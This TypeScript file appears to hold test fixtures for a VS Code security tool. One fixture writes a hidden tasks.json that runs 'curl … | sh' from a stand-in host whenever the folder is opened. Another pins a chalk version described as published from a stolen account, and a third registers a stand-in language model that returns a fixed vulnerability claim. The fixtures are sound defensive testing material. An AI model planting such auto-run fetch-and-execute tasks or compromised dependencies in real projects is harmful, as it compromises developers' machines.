import { cp, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PROJECT_ROOT } from './build/project-root.js';

/** Makes what is opened in an empty folder, and says which of its files is shown. */
export type Content = (folder: string) => Promise<string>;

export async function example(folder: string): Promise<string> {
  await cp(path.join(PROJECT_ROOT, 'examples', 'shop'), folder, { recursive: true });
  return 'package.json';
}

/** A task for an applicant, as they have been handed out; what it fetches is nowhere. */
export async function hostileTask(folder: string): Promise<string> {
  const [file, scripts] = ['.vscode/tasks.json', { start: 'node server.js', test: 'mocha' }];
  const command = 'curl -fsSL https://tools.shop.invalid/setup.sh | sh';
  const presentation = { reveal: 'never', echo: false };
  const task = { label: 'env', type: 'shell', command, presentation, runOptions: { runOn: 'folderOpen' } };
  await mkdir(path.join(folder, '.vscode'), { recursive: true });
  await writeFile(path.join(folder, file), json({ version: '2.0.0', tasks: [task] }));
  await writeFile(path.join(folder, 'package.json'), json({ name: 'task', scripts }));
  await writeFile(path.join(folder, 'server.js'), "console.log('a shop');\n");
  return file;
}

const REPORT = `import chalk from 'chalk';

/** Prints what a cart holds, one line for each thing. */
export function printCart(cart) {
  for (const { name, amount, price } of cart) {
    const sum = (amount * price).toFixed(2);
    console.log(\`\${chalk.bold(name)} \${amount} x \${chalk.green(sum)}\`);
  }
}
`;

const SHOP = { name: 'shop', type: 'module', private: true };

/** A project in which somebody reads code, while its manifest is closed. */
export async function codeOfShop(folder: string): Promise<string> {
  const file = 'src/print-cart.js';
  await mkdir(path.join(folder, 'src'), { recursive: true });
  await writeFile(path.join(folder, 'package.json'), json({ ...SHOP, dependencies: { express: '^4.22.0' } }));
  await writeFile(path.join(folder, file), REPORT);
  return file;
}

/** What an agent would write meanwhile: a version that was published with a stolen account, and was up for two hours. */
export async function editAsAgents(folder: string): Promise<void> {
  const dependencies = { chalk: '5.6.1', express: '^4.22.0' };
  await writeFile(path.join(folder, 'package.json'), json({ ...SHOP, dependencies }));
}

function json(value: unknown): string {
  return `${JSON.stringify(value, undefined, 2)}\n`;
}

const VENDOR = 'gallery';

/** What the model of the pictures says of `request`; everybody can look it up. */
const CLAIM = 'It can be redirected to another protocol, and no later version of it mends that.';

/** Runs in the editor. It answers the one question of the pictures, by the fact that tells of it. */
const MODEL = `'use strict';
const vscode = require('vscode');
const information = { id: 'stand-in', name: 'Stand-in', family: 'none', version: '1', maxInputTokens: 100000, maxOutputTokens: 10000, capabilities: {} };
const textOf = ({ content }) => content.map((part) => part.value ?? '').join('');
exports.activate = (context) => context.subscriptions.push(
  vscode.lm.registerLanguageModelChatProvider(${JSON.stringify(VENDOR)}, {
    provideLanguageModelChatInformation: () => [information],
    provideLanguageModelChatResponse: async (model, messages, options, progress) => {
      const line = messages.map(textOf).join('\\n').split('\\n').find((one) => /"id":.*known-vulnerability/.test(one)) ?? '{}';
      const claim = ${JSON.stringify(CLAIM)};
      const claims = [{ claim, evidence: [JSON.parse(line).id], level: 'medium', confidence: 0.9 }];
      progress.report(new vscode.LanguageModelTextPart(JSON.stringify({ claims })));
    },
    provideTokenCount: (model, text) => Promise.resolve(typeof text === 'string' ? text.length : 1),
  }),
);
`;

/** An extension with a language model that says one sentence, whoever has none of their own; its name says what it is. */
export async function standInModel(folder: string): Promise<void> {
  const manifest = {
    ...{
      name: 'stand-in',
      publisher: VENDOR,
      version: '1.0.0',
      engines: { vscode: '^1.104.0' },
      main: './extension.cjs',
    },
    activationEvents: [`onLanguageModelChatProvider:${VENDOR}`],
    contributes: { languageModelChatProviders: [{ vendor: VENDOR, displayName: 'A stand-in' }] },
  };
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, 'package.json'), json(manifest));
  await writeFile(path.join(folder, 'extension.cjs'), MODEL);
}
